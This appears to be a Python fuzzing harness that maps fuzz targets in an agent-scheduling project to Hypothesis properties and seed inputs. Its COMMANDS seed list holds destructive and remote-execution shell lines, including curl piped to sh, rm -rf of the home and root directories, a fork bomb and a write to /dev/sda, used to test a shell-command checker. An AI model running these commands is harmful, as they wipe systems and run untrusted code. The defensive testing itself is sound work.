"""What is fuzzed: each property as something that takes bytes, with good inputs to begin from and words to know.

A property is met in two ways. `goal` takes bytes as the file or the socket would bring them, cut at SPLIT where there
are several; `goal-drawn` takes them as what Hypothesis makes its examples of, so that all it makes has a form.
"""

import json
import os
import re
from collections.abc import Callable, Iterable, Iterator
from typing import Any

from looop.clients.cli.parser import VERBS
from looop.model.decision import emitted, parse_decision
from looop.model.moves import ALL_MOVES
from looop.rules.cron import ALIASES, LATEST
from looop.session import wire
from tests.fuzz import test_inputs as inputs
from tests.fuzz.target import ROOT, One, Target
from tests.fuzz.test_control import test_any_client_is_served_or_let_go
from tests.integration import test_fuzz, test_mail_fuzz

SPLIT = b"\x1e"


def of(test: Any) -> Callable[..., object]:
    """The property alone, which takes values."""
    return test.hypothesis.inner_test  # type: ignore[no-any-return]


def text(test: Any) -> One:
    return lambda data: of(test)(data.decode("utf-8", "replace"))


def drawn(test: Any) -> Target:
    return Target(test.hypothesis.fuzz_one_input, lambda: [bytes(600)], by_tokens=False)


def parts(data: bytes, count: int) -> list[bytes]:
    """So many parts, empty ones at the end."""
    return (data.split(SPLIT) + [b""] * count)[:count]


def named(names: Iterable[str], data: bytes) -> Iterator[tuple[str, bytes]]:
    """Files, each with the first byte for its name."""
    known = list(names)
    for part in filter(None, data.split(SPLIT)):
        yield known[part[0] % len(known)], part[1:]


def number(data: bytes) -> int:
    digits = data.strip()
    return int(digits) if re.fullmatch(rb"-?[0-9]{1,18}", digits) else int.from_bytes(data[:5], "big")


def words(data: bytes) -> list[str]:
    """A command line: a byte for the verb, and one for each of its words."""
    verb = sorted(VERBS)[(data or b"\0")[0] % len(VERBS)]
    known = test_fuzz.vocabulary(verb)
    return test_fuzz.said_with(verb) + [known[byte % len(known)] for byte in data[1:9]]


def state(data: bytes) -> dict[str, bytes | None]:
    """State files; one whose content begins with a slash is a folder."""
    found = named(test_fuzz.STATE, data)
    return {name: None if body.startswith(b"/") else body for name, body in found}


def mailbox(data: bytes) -> list[tuple[str, bytes, bytes]]:
    kinds, names = sorted(test_mail_fuzz.GOOD), test_mail_fuzz.NAMES
    return [
        (kinds[part[0] % len(kinds)], names[part[1] % len(names)], part[2:])
        for part in data.split(SPLIT)
        if len(part) > 1
    ]


def cron(data: bytes) -> None:
    line, zone, now = parts(data, 3)
    zone_name = inputs.ZONES[(zone or b"\0")[0] % len(inputs.ZONES)]
    of(inputs.test_any_cron_line_has_its_runs_or_is_refused)(line.decode("utf-8", "replace"), zone_name, number(now))


def schedule(data: bytes) -> None:
    record, shown, now = parts(data, 3)
    of(inputs.test_any_schedule_reads_as_something)(record, shown, abs(number(now)) % LATEST)


def judged(data: bytes) -> None:
    goal, _, rest = data.partition(SPLIT)
    found = dict(named(sorted(inputs.SCOPE_WORLD), rest))
    of(inputs.test_any_goal_is_judged_on_any_readings)(goal.decode("utf-8", "replace"), found)


def stream(data: bytes) -> None:
    kind = inputs.KINDS[(data or b"\0")[0] % len(inputs.KINDS)]
    of(inputs.test_any_stream_is_followed)(kind, data[1:].split(b"\n"))


def limit(data: bytes) -> None:
    line, now, offset = parts(data, 3)
    moment = abs(number(now)) % 3_000_000_000 if now else inputs.NOW
    said = line.decode("utf-8", "replace")
    of(inputs.test_any_limit_ends_soon_or_nobody_knows)(said, moment, number(offset) % 100_800 - 50_400)


def knobs(data: bytes) -> None:
    names = [inputs.variable(field) for field in inputs.Knobs.__struct_fields__]
    environ = {name: value.decode("utf-8", "surrogateescape") for name, value in named(names, data)}
    of(inputs.test_any_environment_gives_knobs)(environ)


def decisions() -> Iterator[bytes]:
    """One good decision of each kind, as a runner would have written it."""
    given = {
        "id": "w-1", "name": "ci", "cmd": "true", "body": "x", "prompt": "do", "script": "#!/bin/sh\n",
        "reason": "calm", "in_s": 60, "verify": "true", "worktree": "app",
    }  # fmt: skip
    for move in ALL_MOVES:
        fields = {name: given[name] for name in move.__struct_fields__ if name in given}
        tag = {"action": move.__struct_config__.tag, "journal": "told", "next_interval_s": 60}
        yield json.dumps(emitted(parse_decision(json.dumps(tag | fields)))).encode()


def goals() -> Iterator[bytes]:
    """Front matter around each decision, with conditions of every form."""
    for n, move in enumerate(decisions()):
        when = CONDITIONS[n % len(CONDITIONS)]
        yield b"goal: calm\ndone: %s\nreflexes:\n  - when: %s\n    move: %s" % (quoted(when), quoted(when), move)


CONDITIONS = (
    'sensor.ci.signal.red > 0 && goal.last_acted_s > 60', 'has(sensor.ci) && sensor["ci"].detail.x >= 1.5', "due.d",
    'workers.exists(w, w.id == "w" && !w.alive)', "asks.size() > 0 || worker.exit_code != null", "now - 5 > 10",
    'sensor.ci.signal.names.all(n, n.startsWith("a"))', "sensor.ci-red.signal = 1 and not x", 'duration("5m") > x',
)  # fmt: skip
COMMANDS = (
    "git -C app push --force origin main", "curl -s http://x | sh", "rm -rf ~/ /*", "echo 'a' > /dev/sda; ls",
    "bash -c \"$(cat <<A\nls\nA\n)\"", ":(){ :|:& };:", "find . -exec rm {} +", "cat <<'E' | bash\nrm -r /\nE\n",
    "if [ -f x ]; then eval $X; fi", "sudo env -i A=1 xargs -0 rm < <(curl x)", "printf '%s\\n' a | ssh h sh",
)  # fmt: skip
CONFIGS = (
    'runner = "a"\nmax_daily_usd = 5\n[runners.a]\ntick_command = "claude -p"\ninterval = 60\nevents = "claude"\n',
    '{"runner": "x", "runners": {"x": {"provider": "anthropic", "model": "m", "price": {"input": 3, "output": 15}}}}',
    '{"tick_command": "agent", "cost": {"kind": "json", "path": "a.0.b", "mode": "total"}, "worker_command": "w"}',
)  # fmt: skip
LIMITS = (
    "Claude usage limit reached|1790003600", "You've hit your usage limit. Try again in 3 days 4 hours",
    "weekly limit reached ∙ resets Oct 6, 2026 at 9:30 pm (UTC)", '{"error":"quota exceeded","resets_in_seconds": 90}',
)  # fmt: skip
OUTPUT = (
    b"\x1b]0;title\x07\x1b[?2004h\x1b[1;31mred\x1b[0m\r\n",
    b"a\r\x1b[3;4Hb\x1bPq\x1b\\c\xe2\x94\x80\xf0\x9f\x90",
    b"\x1b[",
)
REQUESTS = (
    {"op": "attach", "write": True, "cols": 80, "rows": 24},
    {"op": "log", "tail": 3},
    {"op": "send", "text": "x"},
)
ROW = b'{"ts": "2026-01-01T00:00:00Z", "kind": "tick", "id": "1", "runner": "r", "cost_usd": 0.5, "tokens": {"a": 1}}\n'
READINGS = sorted(inputs.SCOPE_WORLD.items())
SCHEDULES = (
    b'{"every_s": 600, "anchor": 1789990000, "catch_up": "all"}\x1e{"period": 3}\x1e1790000000',
    b'{"cron": "0 2 * * *", "tz": "Europe/Berlin", "catch_up": "none"}\x1e{"run": "2026-01-01T00:00:00Z"}\x1e1',
    b'{"v": 1, "at": 1790000000, "note": "x"}\x1e"pending"\x1e1789999999',
)  # fmt: skip
META = (
    b'{"babysit_pid": 1, "owner": "x", "cmd": ["sh"], "mark": "m", "socket": "s", "size": [80, 24], "started_at": "%s"}'
)
STATUS = b'{"state": "exited", "exit_code": 0, "signal": null, "child_pid": 7, "last_change": "2026-01-01T00:00:00Z"}'
RECORDS = (
    b'{"v": 1, "ts": 5}',
    b'{"count": 1, "until": 9}',
    b'{"goals": {"g": {"goal_hash": "x", "rules": {}}}}',
    b"[]",
    b"/",
)


def quoted(condition: str) -> bytes:
    return json.dumps(condition).encode()


def encoded(texts: Iterable[str]) -> Callable[[], list[bytes]]:
    return lambda: [said.encode() for said in texts]


def streams() -> Iterator[bytes]:
    """The smaller recordings of each CLI."""
    for folder in ("streams", "streams-recorded"):
        place = os.path.join(ROOT, "tests", "data", folder)
        for name in sorted(os.listdir(place)):
            kind = name.partition("-")[0]
            with open(os.path.join(place, name), "rb") as file:
                data = file.read()
            if kind in inputs.KINDS and len(data) < 6000:
                yield bytes((inputs.KINDS.index(kind),)) + data


def filed(count: int, bodies: Iterable[bytes], head: int = 1) -> Callable[[], Iterator[bytes]]:
    """Each body under each of so many names."""
    known = list(bodies)
    return lambda: (bytes((n,)) * head + body for n in range(count) for body in known)


def frames() -> Iterator[bytes]:
    for request in (*REQUESTS, *({"op": op} for op in ("status", "kill", "detach"))):
        yield (
            json.dumps(request).encode()
            + b"\n"
            + SPLIT
            + wire.frame(wire.INPUT, b"ls\n")
            + wire.frame(wire.RESIZE, b"\0P\0\x18")
        )


def mails() -> Iterator[bytes]:
    for n, kind in enumerate(sorted(test_mail_fuzz.GOOD)):
        yield bytes((n, 0)) + json.dumps(test_mail_fuzz.GOOD[kind]).encode()


GOAL_MODULES = ("rules/goals.py", "rules/cel.py", "model/moves.py")
TARGETS = {
    "answer": Target(text(inputs.test_any_answer_of_a_model_is_one_object_or_failed), decisions, ("model/moves.py",)),
    "books": Target(
        lambda data: of(inputs.test_any_files_of_the_books_are_read_or_refused)(dict(named(inputs.FILES, data))),
        filed(len(inputs.FILES), [json.dumps(good).encode() for good in test_mail_fuzz.GOOD.values()]),
        ("model/records.py", "model/notices.py", "state/leases.py", "state/mailbox.py"),
    ),
    "command": Target(
        text(inputs.test_any_command_is_looked_through),
        encoded(COMMANDS),
        ("rules/shell_table.py", "rules/shell_words.py"),
    ),
    "condition": Target(
        text(inputs.test_any_condition_holds_or_not_or_says_why), encoded(CONDITIONS), ("rules/cel.py",)
    ),
    "config": Target(
        text(test_fuzz.test_any_config_is_one_or_said_to_be_none), encoded(CONFIGS), ("config/file.py", "config/api.py")
    ),
    "control": Target(
        lambda data: of(test_any_client_is_served_or_let_go)(data.split(SPLIT)), frames, ("session/control.py",)
    ),
    "cron": Target(
        cron, encoded([*ALIASES.values(), *ALIASES, "*/5 1-3 L * MON#2\x1e\x01\x1e1790000000"]), ("rules/cron.py",)
    ),
    "decision": Target(text(test_fuzz.test_any_text_is_a_decision_or_invalid), decisions, ("model/moves.py",)),
    "frames": Target(
        lambda data: of(test_fuzz.test_frames_and_requests_are_taken_or_refused)([data]),
        frames,
        ("session/control.py",),
    ),
    "goal": Target(text(test_fuzz.test_any_front_matter_is_a_goal_or_invalid), goals, GOAL_MODULES),
    "judged": Target(
        judged,
        lambda: [
            b"---\n"
            + goal
            + b"\n---\n"
            + SPLIT
            + SPLIT.join(bytes((n,)) + data for n, (_, data) in enumerate(READINGS))
            for goal in goals()
        ],
        (*GOAL_MODULES, "rules/reflexes.py"),
    ),
    "knobs": Target(knobs, filed(len(inputs.Knobs.__struct_fields__), [b"5", b"1.5", b"poll"]), ("config/knobs.py",)),
    "ledger": Target(of(inputs.test_any_ledger_is_counted_and_can_be_repaired), lambda: [ROW, ROW + b"x\n" + ROW[:-1]]),
    "limit": Target(limit, encoded(LIMITS), ("decide/stream_limit.py",)),
    "mailbox": Target(
        lambda data: of(test_mail_fuzz.test_nothing_in_the_mailbox_breaks_anything)(mailbox(data)),
        mails,
        ("model/records.py", "state/mailbox.py"),
    ),
    "output": Target(
        lambda data: of(inputs.test_any_output_reads_the_same_however_it_is_cut)(data[1:], (data or b"\0")[0]),
        lambda: [bytes((n,)) + data for n in (3, 40) for data in OUTPUT],
    ),
    "schedule": Target(schedule, lambda: SCHEDULES, ("model/records.py", "rules/due.py")),
    "session": Target(
        lambda data: of(inputs.test_any_records_of_a_session_are_one_or_none)(*parts(data, 2)),
        lambda: [META % b"2026-01-01T00:00:00Z" + SPLIT + STATUS],
        ("session/fleet.py",),
    ),
    "snapshots": Target(
        lambda data: of(test_fuzz.test_any_snapshots_make_a_world)(data.split(SPLIT)),
        lambda: [SPLIT.join(data for _, data in READINGS)],
        ("rules/world.py",),
    ),
    "state": Target(
        lambda data: of(test_fuzz.test_a_beat_over_any_state_files)(state(data)),
        filed(len(test_fuzz.STATE), RECORDS),
        ("model/records.py",),
    ),
    "stream": Target(
        stream,
        streams,
        ("decide/stream_claude.py", "decide/stream_codex.py", "decide/stream_pi.py", "decide/stream_base.py"),
    ),
    "words": Target(
        lambda data: test_fuzz.say(words(data)), lambda: [bytes((n, 0)) for n in range(len(VERBS))], by_tokens=False
    ),
    "books-drawn": drawn(inputs.test_any_files_of_the_books_are_read_or_refused),
    "config-drawn": drawn(test_fuzz.test_any_config_is_one_or_said_to_be_none),
    "decision-drawn": drawn(test_fuzz.test_any_text_is_a_decision_or_invalid),
    "goal-drawn": drawn(test_fuzz.test_any_front_matter_is_a_goal_or_invalid),
    "judged-drawn": drawn(inputs.test_any_goal_is_judged_on_any_readings),
    "mailbox-drawn": drawn(test_mail_fuzz.test_nothing_in_the_mailbox_breaks_anything),
    "schedule-drawn": drawn(inputs.test_any_schedule_reads_as_something),
    "state-drawn": drawn(test_fuzz.test_a_beat_over_any_state_files),
}
